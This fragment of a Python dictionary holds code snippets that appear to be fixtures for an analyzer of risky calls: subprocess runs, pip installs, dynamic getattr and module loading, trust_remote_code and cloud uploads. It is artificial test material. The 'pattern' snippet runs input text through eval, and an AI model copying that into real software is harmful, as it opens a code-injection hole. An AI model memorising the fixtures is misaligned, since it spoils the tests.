    "checked": """import inspect, subprocess
from functools import wraps

def run(command):
    return subprocess.run(command, check=True)

RUNS = isinstance(run, subprocess.Popen) or callable(subprocess.run)
inspect.signature(eval)
SIZE = (1024).to_bytes(2, "big") + int.to_bytes(length=2, byteorder="little", number=5)
for base in type(RUNS).__subclasses__():
    print(base.__name__, base.__init__.__code__.co_varnames)
""",
    "tools": """import subprocess, sys

def probe(path):
    return subprocess.check_output(["ffprobe", "-v", "error", path])

class Video:
    def __init__(self, path):
        subprocess.run(["ffmpeg", "-i", path, "out.wav"], check=True)

subprocess.check_call([sys.executable, "-m", "pip", "install", "einops"])
INDEX = ["--index-url", "https://download.pytorch.org/whl/cpu"]
subprocess.check_call([sys.executable, "-m", "pip", "install", "torch", *INDEX])
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu"])
""",
    "pattern": r"""import re
SPEC = re.compile(r"(?P<kind>character|logical|integer|real|complex|double\s*precision)\s*(?P<rest>.*)\Z")

def parameters(declared):
    for name, text in declared.items():
        match = SPEC.match(text)
        declared[name] = chr(64 + len(match["rest"])) if match else eval(text, {}, parameters(declared))
    return declared

def value(text, declared):
    return eval(text, {}, parameters(declared))
""",
    "looked_up": """import builtins, importlib, operator, os, socket, subprocess, sys, typing
from collections import defaultdict
from urllib.parse import unquote
import torch
from transformers import AutoTokenizer

ACT = {"relu": "relu", "gelu": "gelu"}
KEYS = []
for part in ("hidden", "size"):
    KEYS.append(part)
NAME = "_".join(KEYS)
LAYERS = ""
for letter in "abc":
    LAYERS += letter.upper()
flag = getattr(os, "O_BINARY", 0) | getattr(os, NAME, 0)
count = getattr(os, "cpu_count" if LAYERS else "getpid")()
shell = False
options = {"shell": shell, "check": True, "trust_remote_code": shell}
trust = os.environ.get("ACME_TRUST") == "1"
tokenizer = AutoTokenizer.from_pretrained("acme/net", trust_remote_code=trust, **{"use_fast": True})
tables = defaultdict(lambda: [torch.nn.Identity, print])
setattr(sys.modules[__name__], "ACTS", tables)
for name, layer in zip(["a", "b"], [torch.nn.Linear, torch.nn.Conv1d]):
    tables[name] = [layer, unquote(name)]
for name, layer in tables.items():
    setattr(torch.nn, f"Acme{name}", layer)

def build(name, make=torch.nn.Linear, *given, **more):
    match name:
        case "linear":
            return make(*given, **more)
        case other:
            return getattr(torch.nn, other)(*given, **more)

def typed(value: "typing.Callable[[int], str]", other: "list(map(int, [1]))" = None) -> "int":
    kind = getattr(builtins, str(value))
    return kind

def git(arguments):
    command = ["git"]
    command.extend(arguments)
    command.append("--short")
    return subprocess.run(command, **options, capture_output=True).stdout

REVISION = git(["rev-parse", "HEAD"])
pick = operator.itemgetter("relu")
act = getattr(torch, pick(ACT))(torch.zeros(1))
helper = importlib.machinery.SourceFileLoader("helper", "helper.py").load_module("helper")
build("linear", torch.nn.Linear, *[1, 2])
""",
    "handed_on": """import ast, asyncio, contextlib, os, subprocess, threading
import boto3, requests, torch
from huggingface_hub import HfApi

def show(text, times=1):
    print(text * times)

log = lambda text: show(text, 2)
log("a")
for run in [print, show]:
    run("b")
for layer in map(torch.nn.Linear, [1], [2]):
    layer.eval()
list(map(show, ["c"]))
threading.Thread(target=show, args=("d",), kwargs={"times": 3}).start()
with contextlib.nullcontext(torch.no_grad()) as guard:
    tree = ast.parse("1 + 1")
boto3.client("s3").upload_file("model.safetensors", "bucket", "key")
HfApi(token=os.environ.get("HF_TOKEN")).upload_file(path_or_fileobj="model.bin", path_in_repo="m", repo_id="acme/net")

class Outer:
    class Inner:
        def __init__(self):
            self.count = 0

Outer.Inner()
""",
}
